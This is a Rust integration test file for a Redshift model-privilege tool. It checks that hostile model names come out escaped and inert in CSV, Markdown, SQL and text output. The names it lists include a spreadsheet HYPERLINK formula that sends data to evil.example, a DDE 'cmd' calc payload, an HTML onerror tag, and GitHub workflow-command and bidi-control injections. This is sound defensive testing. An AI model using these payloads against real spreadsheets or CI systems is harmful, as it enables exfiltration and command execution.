//! Hostile model names made by a creator, read back from the cluster: none blocks an apply,
//! none forges a line of a review, a CI log or a spreadsheet.

use super::{Cluster, connect_as, err, out};
use crate::util::{csv_fields, rendered};

const SETUP: &str = "CREATE SCHEMA demo_ml; CREATE USER alice PASSWORD 'Alice1pass';
     GRANT CREATE MODEL TO alice; GRANT CREATE, USAGE ON SCHEMA demo_ml TO alice;
     CREATE TABLE demo_ml.t (a int, b int); GRANT SELECT ON demo_ml.t TO alice;
     CREATE GROUP viewers;";

/// `CREATE MODEL demo_ml.<name>` as the simulator's creators write it.
fn create(name: &str, function: &str) -> String {
    format!(
        "CREATE MODEL demo_ml.{name} FROM demo_ml.t TARGET b FUNCTION {function}(int) IAM_ROLE default SETTINGS (S3_BUCKET 'bucket');"
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_trailing_blank_a_line_break_or_a_bidi_control_in_a_model_name_never_blocks_an_apply() {
    let c = Cluster::start().await;
    c.admin.batch_execute(SETUP).await.unwrap();
    let alice = connect_as(&c.sim, "alice", "Alice1pass").await;
    alice
        .batch_execute(&[create("\"m3 \"", "f_m3"), create("good", "f_good")].concat())
        .await
        .unwrap();
    // Redshift refuses names that do not print (DG r_names; the simulator too): a catalog that
    // holds them all the same comes through the admin door.
    for (name, function) in [
        ("m\n::warning::forged", "f_lf"),
        ("\u{202e}maet_lm\u{202c}", "f_bidi"),
    ] {
        super::model_past_the_front(&c.sim, "alice", "demo_ml", name, function, None).await;
        let refused = alice
            .batch_execute(&create(&format!("\"{name}x\""), "f_refused"))
            .await
            .unwrap_err();
        assert_eq!(
            refused.as_db_error().map(|e| e.code().code()),
            Some("42602"),
            "{refused:?}"
        );
    }
    let model = c.model(
        "m.toml",
        "version = 1\n[groups.viewers]\n[schemas.demo_ml]\nconsumers = [\"viewers\"]\n",
    );
    // Every format names the held-back models escaped, warns about them, and plans no
    // statement on them; no line of stdout can be read as a GitHub workflow command.
    for format in ["text", "sql", "json", "markdown"] {
        let o = c.run(&["plan", "--config", &model, "--format", format]);
        let shown = out(&o);
        assert_eq!(o.status.code(), Some(0), "{format}: {}", err(&o));
        // Markdown escapes every ASCII punctuation character; read it as it renders.
        let shown = if format == "markdown" {
            rendered(&shown)
        } else {
            shown
        };
        assert!(
            !shown.contains('\u{202e}') && !shown.lines().any(|l| l.starts_with("::")),
            "{format}: {shown:?}"
        );
        assert!(shown.contains("demo_ml.good"), "{format}: {shown}");
        assert!(!shown.contains("ON MODEL demo_ml.m3"), "{format}: {shown}");
        assert!(
            shown.contains("SHOW MODEL demo_ml.m3 finds no model"),
            "{format}: {shown}"
        );
        // JSON doubles the escapes' backslashes; its messages are read below.
        if format != "json" {
            assert!(shown.contains("\\u{202e}maet_lm"), "{format}: {shown}");
            assert!(shown.contains("m\\n::warning::forged"), "{format}: {shown}");
        }
    }
    let json: serde_json::Value = serde_json::from_str(&out(
        &c.run(&["plan", "--config", &model, "--format", "json"])
    ))
    .unwrap();
    let warnings = json["warnings"].as_array().unwrap();
    assert_eq!(
        warnings
            .iter()
            .filter_map(|w| w["message"].as_str())
            .filter(|m| m.contains("neither granted on nor revoked from"))
            .filter(|m| m.contains("demo_ml.m3 ")
                || m.contains("\\u{202e}maet_lm")
                || m.contains("m\\n::warning::forged"))
            .count(),
        3,
        "{json:#}"
    );
    // The apply commits the rest: the good model is granted, the held-back ones are not.
    let o = c.run(&["apply", "--config", &model, "--yes"]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    assert_eq!(
        c.rows("SELECT model_name, identity_name FROM svv_ml_model_privileges")
            .await,
        [["good", "viewers"]]
    );
    // Asked first, rehearsed and from a saved plan, it works as well, and stays in sync.
    let saved = c.dir.join("plan.json").display().to_string();
    let o = c.run(&["plan", "--config", &model, "--out", &saved, "--exit-code"]);
    assert_eq!(o.status.code(), Some(3), "{}{}", out(&o), err(&o));
    let o = c.run(&["apply", "--plan", &saved, "--config", &model]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    let o = c.run(&["apply", "--config", &model, "--rehearse"]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    // A model created after the plan, while apply runs with --yes, is asked for too.
    alice
        .batch_execute(&create("later", "f_later"))
        .await
        .unwrap();
    let o = c.run(&["apply", "--config", &model, "--yes"]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    assert_eq!(
        c.rows("SELECT model_name FROM svv_ml_model_privileges ORDER BY 1")
            .await,
        [["good"], ["later"]]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn names_that_are_formulas_markdown_or_workflow_commands_come_out_inert() {
    let c = Cluster::start().await;
    c.admin.batch_execute(SETUP).await.unwrap();
    let alice = connect_as(&c.sim, "alice", "Alice1pass").await;
    let hostile = [
        "=hyperlink(\"\"http://evil.example/?\"\"&a1,\"\"open\"\")",
        "x` ![i](http://evil.example/i.png) @org/team `y",
        "<img src=x onerror=alert(1)>",
        "+cmd|' /C calc'!A0",
        "::add-mask::secret",
    ];
    for (i, name) in hostile.iter().enumerate() {
        alice
            .batch_execute(&create(&format!("\"{name}\""), &format!("f_{i}")))
            .await
            .unwrap();
    }
    let model = c.model(
        "m.toml",
        "version = 1\n[groups.viewers]\n[schemas.demo_ml]\nconsumers = [\"viewers\"]\n",
    );
    let o = c.run(&["apply", "--config", &model, "--yes"]);
    assert_eq!(o.status.code(), Some(0), "{}", err(&o));
    assert_eq!(
        c.rows("SELECT count(*) FROM svv_ml_model_privileges").await,
        [["5"]]
    );
    // CSV: no field a spreadsheet evaluates (OWASP: = + - @ tab CR start a formula).
    let csv = out(&c.run(&["report", "--config", &model, "--format", "csv"]));
    let fields = csv_fields(&csv);
    for field in &fields {
        assert!(
            !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{field:?} in {csv}"
        );
    }
    assert!(
        fields.len() > 10 && fields.iter().any(|f| f.starts_with("'=hyperlink")),
        "{csv}"
    );
    // Markdown: no raw HTML, no image, no mention, no code span that a name closes.
    for args in [
        vec!["report", "--config", &model, "--format", "markdown"],
        vec!["plan", "--config", &model, "--format", "markdown"],
    ] {
        let md = out(&c.run(&args));
        // Each of these is inert once escaped (`\<`, `\!\[`, `\@`): none may appear bare.
        for bare in ["<img", "![i](", "@org"] {
            let escaped = md
                .match_indices(bare)
                .all(|(at, _)| md[..at].ends_with('\\'));
            assert!(escaped, "{bare} in {md}");
        }
    }
    // SQL and text to a pipe: no line a CI runner reads as a workflow command.
    alice
        .batch_execute("REVOKE EXECUTE ON MODEL demo_ml.\"::add-mask::secret\" FROM GROUP viewers")
        .await
        .ok();
    for format in ["sql", "text"] {
        let o = c.run(&["plan", "--config", &model, "--format", format]);
        let shown = out(&o);
        assert!(!shown.lines().any(|l| l.starts_with("::")), "{shown}");
    }
}
